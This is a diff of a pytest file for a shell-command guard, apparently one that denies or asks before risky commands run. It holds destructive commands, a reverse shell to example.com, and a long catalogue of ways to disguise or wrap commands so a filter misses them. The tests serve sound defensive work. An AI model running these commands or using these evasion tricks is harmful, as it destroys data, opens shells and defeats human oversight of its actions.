@@ -5,12 +5,20 @@ from __future__ import annotations
 import base64
 import shlex
 from collections.abc import Callable
+from importlib.resources import files
+from typing import Any
 
 import pytest
-from hookline_hookspecs import Ask, Deny
+import yaml
+from hookline_hookspecs import Deny
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
+ACTS: list[dict[str, Any]] = yaml.safe_load(
+    (files("hookline_shell.judge") / "data" / "acts.yaml").read_text("utf-8")
+)
+EXAMPLES = [shlex.split(row["example"]) for row in ACTS]
+"""What every row of the table says it stops."""
 DENIED = [
     ["rm", "-rf", "/"],
     ["rm", "-r", "-f", "--", "/"],
@@ -30,18 +38,11 @@ DENIED = [
     ["killall5", "-9"],
 ]
 ASKED = [
-    ["sudo", "ls"],
+    *(words for words in EXAMPLES if not any("$" in word for word in words)),
     ["su", "-"],
     ["doas", "sh"],
-    ["chmod", "u+s", "tool"],
-    ["chmod", "-R", "777", "/"],
     ["chown", "-R", "nobody", "/etc"],
-    ["shutdown", "-h", "now"],
     ["reboot"],
-    ["systemctl", "poweroff"],
-    ["crontab", "jobs.txt"],
-    ["systemctl", "enable", "thing"],
-    ["nc", "-e", "/bin/sh", "example.com", "4444"],
     ["socat", "TCP:example.com:1", "EXEC:/bin/sh"],
     ["rm", "-rf", "*"],
     ["rm", "-rf", ".."],
@@ -69,6 +70,10 @@ def split_quotes(word: str) -> str:
     return "".join(f"'{c}'" if i % 2 else f'"{c}"' for i, c in enumerate(word))
 
 
+def encoded(script: str) -> str:
+    return base64.b64encode(script.encode()).decode()
+
+
 def escaped(word: str) -> str:
     return "".join(f"\\{c}" for c in word)
 
@@ -85,6 +90,13 @@ WORDS: list[Write] = [
     lambda word: f"${{none:-{split_quotes(word)}}}",
     lambda word: f"''{shlex.quote(word)}''",
     lambda word: f"$@{shlex.quote(word)}",
+    lambda word: f"$1{shlex.quote(word)}$*",
+    lambda word: f"${{none}}{shlex.quote(word)}" if not word.startswith("-") else shlex.quote(word),
+    lambda word: "\\\n".join(escaped(c) for c in word),
+    lambda word: f'"$(base64 -d <<< {encoded(word)})"',
+    lambda word: f'"$(echo {hexed(word[::-1])} | rev)"',
+    lambda word: f'"$(cat <<< {shlex.quote(word)})"',
+    lambda word: f'$"{word}"' if not set(word) & set('$`"\\') else shlex.quote(word),
 ]
 """Ways to write one word that a shell reads back as it was."""
 
@@ -106,12 +118,20 @@ COMMANDS: list[Callable[[list[str]], str]] = [
     lambda words: f"alias zz={words[0]}; zz " + shlex.join(words[1:]),
     lambda words: "read -r -a x <<< " + shlex.quote(" ".join(words)) + '; "${x[@]}"',
     lambda words: "${IFS}".join(map(shlex.quote, words)),
+    lambda words: "\t ".join(map(shlex.quote, words)),
+    lambda words: "declare -n r=w; w=" + shlex.quote(shlex.join(words)) + '; eval "$r"',
+    lambda words: "n=w; w=" + shlex.quote(shlex.join(words)) + '; eval "${!n}"',
+    lambda words: "mapfile -t x <<< " + shlex.quote(shlex.join(words)) + '; eval "${x[0]}"',
+    lambda words: "printf -v x %s " + shlex.quote(shlex.join(words)) + '; eval "$x"',
+    lambda words: "exec 3<<< " + shlex.quote(shlex.join(words)) + '; read -r x <&3; eval "$x"',
+    lambda words: (
+        f'{shlex.quote(words[0])}() {{ command {shlex.quote(words[0])} "$@"; }}; '
+        + shlex.join(words)
+        if words[0].isalnum()
+        else shlex.join(words)
+    ),
 ]
 """Ways to write a whole command."""
-
-
-def encoded(script: str) -> str:
-    return base64.b64encode(script.encode()).decode()
 
 
 WRAPPERS: list[Write] = [
@@ -163,11 +183,34 @@ WRAPPERS: list[Write] = [
     lambda s: f"env -S {shlex.quote('bash -c ' + shlex.quote(s))}",
     lambda s: f"busybox sh -c {shlex.quote(s)}",
     lambda s: f"script -qc {shlex.quote(s)} out.txt",
+    lambda s: f"su -c {shlex.quote(s)}",
+    lambda s: f"ssh localhost {shlex.quote(s)}",
+    lambda s: f"systemd-run --user bash -c {shlex.quote(s)}",
+    lambda s: f"stdbuf -oL setsid unshare -n bash -c {shlex.quote(s)}",
+    lambda s: f"parallel ::: {shlex.quote(s)}",
+    lambda s: f"watch -n1 {shlex.quote(s)}",
+    lambda s: f"tmux new-session -d {shlex.quote(s)}",
+    lambda s: f"npm exec -c {shlex.quote(s)}",
+    lambda s: f"git bisect run sh -c {shlex.quote(s)}",
+    lambda s: f"git config core.pager {shlex.quote('sh -c ' + shlex.quote(s))}",
+    lambda s: f"GIT_SSH_COMMAND={shlex.quote('sh -c ' + shlex.quote(s))} git fetch",
+    lambda s: f"tar cf x . --checkpoint-action={shlex.quote('exec=' + s)}",
+    lambda s: f"rsync -e {shlex.quote('sh -c ' + shlex.quote(s))} a b:",
+    lambda s: f"at now <<< {shlex.quote(s)}",
+    lambda s: f"echo {shlex.quote('* * * * * ' + s)} | crontab -" if "\n" not in s else f"({s}\n)",
+    lambda s: f"gdb -ex {shlex.quote('shell sh -c ' + shlex.quote(s))}" if "\n" not in s else s,
+    lambda s: f"/lib64/ld-linux-x86-64.so.2 /bin/sh -c {shlex.quote(s)}",
+    lambda s: f"command_not_found_handle() {{ {s}\n}}; nosuch",
+    lambda s: f"PS4={shlex.quote('$(' + s + chr(10) + ')')}; set -x",
+    lambda s: f'x={shlex.quote("$(" + s + chr(10) + ")")}; echo "${{x@P}}"',
+    lambda s: f"exec 5<<< {shlex.quote(s)}; bash <&5",
+    lambda s: f"printf %s {shlex.quote(s)} | dd of=y 2>/dev/null; sh y",
+    lambda s: f"echo {shlex.quote(s)} | tee >(cat) | sudo -n tee z; . ./z",
 ]
 """Ways to run a script by way of another command."""
 
 
-LOCAL = [wrapper for wrapper in WRAPPERS if not wrapper("x").startswith("ssh")]
+LOCAL = [wrapper for wrapper in WRAPPERS if not wrapper("x").startswith("ssh host")]
 """On another machine a path is that machine's, and not judged."""
 
 
@@ -203,20 +246,39 @@ def test_what_a_person_must_see_is_never_passed(
     assert verdict(command) is not None, command
 
 
-@pytest.mark.parametrize("words", DENIED, ids=" ".join)
 @pytest.mark.parametrize("number", range(len(WRAPPERS)))
 def test_denied_acts_are_denied_through_every_wrapper(
-    verdict: Callable[..., object], words: list[str], number: int
+    verdict: Callable[..., object], number: int
 ) -> None:
-    plain = " ".join(w if "*" in w else shlex.quote(w) for w in words)
-    command = WRAPPERS[number](plain)
-    assert isinstance(verdict(command), Deny), command
+    plain = (" ".join(w if "*" in w else shlex.quote(w) for w in words) for words in DENIED)
+    commands = [WRAPPERS[number](script) for script in plain]
+    assert [command for command in commands if not isinstance(verdict(command), Deny)] == []
 
 
-@pytest.mark.parametrize("words", ASKED, ids=" ".join)
 @pytest.mark.parametrize("number", range(len(WORDS)))
-def test_asked_acts_are_asked_in_every_spelling(
-    verdict: Callable[..., object], words: list[str], number: int
+def test_every_act_is_stopped_in_every_spelling(
+    verdict: Callable[..., object], number: int
 ) -> None:
-    command = " ".join(w if "*" in w else WORDS[number](w) for w in words)
-    assert isinstance(verdict(command), Ask | Deny), command
+    write = WORDS[number]
+    commands = [" ".join(w if "*" in w else write(w) for w in words) for words in ASKED]
+    assert [command for command in commands if verdict(command) is None] == []
+
+
+@pytest.mark.parametrize("number", range(len(COMMANDS)))
+def test_every_act_is_stopped_in_every_form(verdict: Callable[..., object], number: int) -> None:
+    plain = [words for words in ASKED if not any(" " in w or "*" in w for w in words)]
+    commands = [COMMANDS[number](words) for words in plain]
+    assert [command for command in commands if verdict(command) is None] == []
+
+
+@pytest.mark.parametrize("number", range(len(LOCAL)))
+def test_every_act_is_stopped_through_every_wrapper(
+    verdict: Callable[..., object], number: int
+) -> None:
+    plain = [" ".join(w if "*" in w else shlex.quote(w) for w in words) for words in ASKED]
+    commands = [LOCAL[number](script) for script in plain]
+    assert [command for command in commands if verdict(command) is None] == []
+
+
+def test_every_row_stops_its_own_example(verdict: Callable[..., object]) -> None:
+    assert [row["example"] for row in ACTS if verdict(row["example"]) is None] == []
